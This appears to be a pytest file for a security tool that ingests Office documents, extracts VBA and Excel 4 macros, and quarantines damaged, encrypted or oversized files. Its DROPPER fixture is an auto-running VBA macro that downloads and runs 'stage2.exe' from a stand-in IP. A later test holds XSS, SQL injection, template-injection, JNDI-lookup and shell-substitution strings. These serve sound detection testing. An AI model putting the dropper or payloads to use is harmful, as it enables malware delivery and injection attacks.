"""Office documents: sniffing by content, the document row olevba's analysis gives, quarantine
of what oletools cannot read, re-ingest, hostile content. Documents come from the generator
(threatscope.simulate.office), checked there against olefile and olevba."""

from __future__ import annotations

import hashlib
import json
import os
import zipfile
from datetime import datetime

from tests.ingest.conftest import assert_invariant, manifest, quarantine, rows, run, write
from threatscope.simulate.office import (
    compound_file,
    vba_project_bin,
    write_doc,
    write_docm,
    write_docx,
    write_xls,
)

DROPPER = {
    "ThisDocument": 'Sub Document_Open()\r\n    Fetch\r\nEnd Sub\r\n',
    "Module1": (
        'Private Declare Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" '
        '(ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, '
        'ByVal e As Long) As Long\r\n'
        'Sub Fetch()\r\n'
        '    URLDownloadToFile 0, "http://198.51.100.7/a/stage2.exe", Environ("TEMP") & "\\s.exe", 0, 0\r\n'
        '    Set sh = CreateObject("WScript.Shell")\r\n'
        '    sh.Run Environ("TEMP") & "\\s.exe"\r\n'
        'End Sub\r\n'),
}
QUIET = {"Module1": 'Sub FormatTable()\r\n    Selection.Font.Bold = True\r\nEnd Sub\r\n'}
T0 = datetime(2018, 5, 14, 9, 30, 0)
COLS = ("source_file, source_line, ts, event_kind, org_id, file_name, file_extension, file_size, "
        "file_hash_sha256, document_container, document_type, has_macros, has_xlm_macros, "
        "vba_modules, vba_autoexec, vba_suspicious, vba_iocs, vba_code, raw")


def _dated(path, when: datetime = T0):
    ts = when.timestamp() - datetime(1970, 1, 1).timestamp()  # as UTC
    os.utime(path, (ts, ts))
    return path


def _by_name(ws) -> dict[str, dict]:
    return {r["file_name"]: r for r in rows(ws, "document", COLS)}


def test_documents_become_document_rows(ws, tmp_path):
    docs = tmp_path / "in" / "acme"
    _dated(write_doc(docs / "invoice.doc", DROPPER))
    _dated(write_docm(docs / "invoice.docm", DROPPER))
    _dated(write_docx(docs / "letter.docx", "hello"))
    _dated(write_doc(docs / "report.doc", QUIET))
    _dated(write_xls(docs / "book.xls", None, macro_sheet="Macro1"))
    (docs / "vbaProject.bin").write_bytes(vba_project_bin(DROPPER))
    _dated(docs / "vbaProject.bin")
    s = run(ws, tmp_path / "in")
    assert_invariant(s)
    assert {f["format"] for f in s.per_file} == {"office"}
    assert (s.files, s.rows_written, s.rows_quarantined) == (6, 6, 0)
    got = _by_name(ws)
    doc, docm, docx, quiet, xls, bin_ = (got[n] for n in (
        "invoice.doc", "invoice.docm", "letter.docx", "report.doc", "book.xls", "vbaProject.bin"))
    for r in got.values():
        assert (r["source_line"], r["event_kind"], r["org_id"], r["ts"]) == (1, "document", "acme", T0)
        path = docs / r["file_name"]
        assert r["file_size"] == path.stat().st_size
        assert r["source_file"] == str(path)
        assert r["file_hash_sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    for r in (doc, docm, bin_):
        assert r["has_macros"] is True and r["has_xlm_macros"] is False
        assert r["vba_modules"] == "ThisDocument.cls\nModule1.bas"
        assert r["vba_autoexec"] == "Document_Open"
        assert set(r["vba_suspicious"].split("\n")) >= {
            "URLDownloadToFileA", "CreateObject", "WScript.Shell", "Run", "Environ", "Lib"}
        assert set(r["vba_iocs"].split("\n")) >= {"http://198.51.100.7/a/stage2.exe",
                                                  "198.51.100.7", "stage2.exe"}
        assert "sh.Run Environ" in r["vba_code"] and "Sub Document_Open()" in r["vba_code"]
        summary = json.loads(r["raw"])
        assert summary["autoexec"] == ["Document_Open"]
        assert summary["descriptions"]["Document_Open"].startswith("Runs when")
        assert [m["name"] for m in summary["modules"]] == ["ThisDocument.cls", "Module1.bas"]
    assert (doc["document_container"], doc["file_extension"], doc["document_type"]) == (
        "ole", "doc", "MS Word 97 Document")
    assert (docm["document_container"], docm["document_type"]) == (
        "ooxml", "MS Word 2007+ Macro-Enabled Document")
    assert (docx["has_macros"], docx["vba_modules"], docx["vba_autoexec"], docx["vba_code"]) == (
        False, None, None, None)
    assert docx["document_type"] == "MS Word 2007+ Document"
    assert (quiet["has_macros"], quiet["vba_autoexec"], quiet["vba_suspicious"]) == (True, None, None)
    assert quiet["vba_modules"] == "Module1.bas"
    # Excel 4 macros: a macro sheet with Auto_Open, its formulas' listing as the code
    assert (xls["has_macros"], xls["has_xlm_macros"], xls["vba_modules"]) == (True, True, None)
    assert xls["vba_autoexec"] == "Auto_Open" and xls["vba_suspicious"] == "XLM macro"
    assert "Excel 4.0 macro sheet" in xls["vba_code"]


def test_other_zip_files_are_not_taken_for_documents(ws, tmp_path):
    logs = tmp_path / "logs"
    with zipfile.ZipFile(write(logs / "acme" / "archive.zip", b""), "w") as z:
        z.writestr("access.log", '192.0.2.1 - - [10/May/2018:10:00:00 +0000] "GET / HTTP/1.1" 200 1\n')
    write_docm(logs / "acme" / "a.docm", QUIET)
    s = run(ws, logs)
    assert s.unrecognised == [str(logs / "acme" / "archive.zip")]
    assert [f["format"] for f in s.per_file if f["status"] == "ingested"] == ["office"]
    # a package whose [Content_Types].xml comes last is still found (central directory)
    with zipfile.ZipFile(write(tmp_path / "late.docx", b""), "w") as z:
        z.writestr("word/document.xml", os.urandom(70_000).hex())
        z.writestr("[Content_Types].xml", "<Types/>")
    from threatscope.ingest.formats import sniff_magic
    head = (tmp_path / "late.docx").read_bytes()[:16]
    assert sniff_magic(head, str(tmp_path / "late.docx")) == "office"
    assert sniff_magic(head, str(logs / "acme" / "archive.zip")) is None


def _damaged(tmp_path):
    good_doc = write_doc(tmp_path / "src.doc", DROPPER).read_bytes()
    good_docm = write_docm(tmp_path / "src.docm", DROPPER).read_bytes()
    out = tmp_path / "in"
    write(out / "cut.doc", good_doc[: len(good_doc) // 2])
    write(out / "cut.docm", good_docm[: len(good_docm) - 200])
    write(out / "garbage.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8)
    crc = bytearray(good_docm)  # flip bytes inside vbaProject.bin's deflated data
    at = good_docm.index(b"word/vbaProject.bin") + 60
    crc[at:at + 8] = bytes(b ^ 0xFF for b in crc[at:at + 8])
    write(out / "crc.docm", bytes(crc))
    # an encrypted package: MS-OFFCRYPTO's streams in a compound file, as Office writes one
    write(out / "locked.docx", compound_file({
        "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + bytes(200),
        "EncryptedPackage": bytes(5000)}))
    with zipfile.ZipFile(write(out / "stored.docx", b""), "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>" * 10)
    raw = bytearray((out / "stored.docx").read_bytes())
    at = raw.index(b"<w:document/>") + 20
    raw[at] ^= 0xFF  # a stored member's byte: only its CRC tells
    (out / "stored.docx").write_bytes(bytes(raw))
    with zipfile.ZipFile(write(out / "zipcrypto.docm", b""), "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
    raw = bytearray((out / "zipcrypto.docm").read_bytes())
    raw[6] |= 1  # the local header's "encrypted" flag ...
    cd = raw.rindex(b"PK\x01\x02")
    raw[cd + 8] |= 1  # ... and the central directory's
    (out / "zipcrypto.docm").write_bytes(bytes(raw))
    # a VBA project whose dir and module streams are both destroyed
    streams = {"WordDocument": b"x", "Macros/PROJECT": b"Module=Module1\r\n",
               "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
               "Macros/VBA/dir": b"\x01" + b"\xff" * 64, "Macros/VBA/Module1": b"\x01" + b"\xee" * 64}
    write(out / "novba.doc", compound_file(streams, "00020906-0000-0000-C000-000000000046"))
    return out


def test_unreadable_documents_are_quarantined_with_the_reason(ws, tmp_path):
    out = _damaged(tmp_path)
    s = run(ws, out, org="acme", fmt="office")
    assert_invariant(s)
    assert (s.files, s.lines_read, s.rows_written, s.rows_quarantined) == (8, 8, 0, 8)
    with ws.connect() as con:
        got = dict(con.execute("SELECT source_file, reason FROM quarantine").fetchall())
    reasons = {os.path.basename(k): v for k, v in got.items()}
    assert reasons["cut.doc"].startswith("damaged or truncated OLE2 file:")
    assert reasons["cut.docm"].startswith("damaged or truncated zip package:")
    assert reasons["garbage.doc"].startswith("damaged or truncated OLE2 file:")
    assert reasons["crc.docm"].startswith("damaged or truncated zip package: zlib.error: ")
    assert reasons["stored.docx"] == ("damaged zip package: member 'word/document.xml' fails "
                                      "its CRC check")
    assert reasons["locked.docx"].startswith("encrypted (password-protected) Office document")
    assert reasons["zipcrypto.docm"] == "encrypted zip package: its content cannot be analysed"
    assert reasons["novba.doc"] == ("VBA project found but none of its modules could be read "
                                    "by oletools")
    assert [line for line, _ in quarantine(ws)] == [1] * 8
    assert rows(ws, "document") == []


def test_auto_sniffed_damage_is_quarantined_too(ws, tmp_path):
    out = _damaged(tmp_path)
    s = run(ws, *sorted(out.iterdir()))
    assert_invariant(s)
    assert [f["format"] for f in s.per_file] == ["office"] * 8
    assert s.rows_quarantined == 8 and not s.errors


def test_reingest_adds_nothing(ws, tmp_path):
    write_docm(tmp_path / "in" / "a.docm", DROPPER)
    write(tmp_path / "in" / "bad.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 cut")
    first = run(ws, tmp_path / "in")
    again = run(ws, tmp_path / "in")
    assert (first.files, first.rows_written, first.rows_quarantined) == (2, 1, 1)
    assert (again.files, again.skipped_files, again.rows_written) == (0, 2, 0)
    assert len(rows(ws, "document")) == 1 and len(quarantine(ws)) == 1
    assert len(manifest(ws)) == 2


def test_hostile_content_is_kept_as_text(ws, tmp_path):
    evil = {"Module1": (
        'Sub AutoOpen()\r\n'
        '    x = "<script>alert(1)</script>\'; DROP TABLE document; --"\r\n'
        '    y = "{{ 7*7 }} ${jndi:ldap://198.51.100.9/a} \x01\x7f"\r\n'
        'End Sub\r\n')}
    name = "in voice'\"<img src=x>;$(id)%s%n\u00e9\u202e.docm"
    write_docm(tmp_path / "in" / name, evil)
    s = run(ws, tmp_path / "in")
    assert_invariant(s)
    (r,) = rows(ws, "document", COLS)
    assert r["file_name"] == name
    assert "<script>alert(1)</script>'; DROP TABLE document; --" in r["vba_code"]
    assert "{{ 7*7 }} ${jndi:ldap://198.51.100.9/a}" in r["vba_code"]
    assert json.loads(r["raw"])["file_name"] == name
    assert r["vba_autoexec"] == "AutoOpen"


def test_oversized_documents_are_quarantined(ws, tmp_path, monkeypatch):
    from threatscope.ingest.formats import office

    monkeypatch.setattr(office, "MAX_BYTES", 100_000)
    write_doc(tmp_path / "in" / "big.doc", DROPPER, text="x" * 200_000)
    with zipfile.ZipFile(write(tmp_path / "in" / "bomb.docx", b""), "w",
                         zipfile.ZIP_DEFLATED) as z:  # small, unpacks to 1 MB
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", bytes(1 << 20))
    assert (tmp_path / "in" / "bomb.docx").stat().st_size < 100_000
    s = run(ws, tmp_path / "in")
    assert_invariant(s)
    (big, bomb) = quarantine(ws)
    assert big[1].startswith("Office document too large to analyse (")
    assert bomb[1] == "zip package unpacks to more than 100000 bytes"
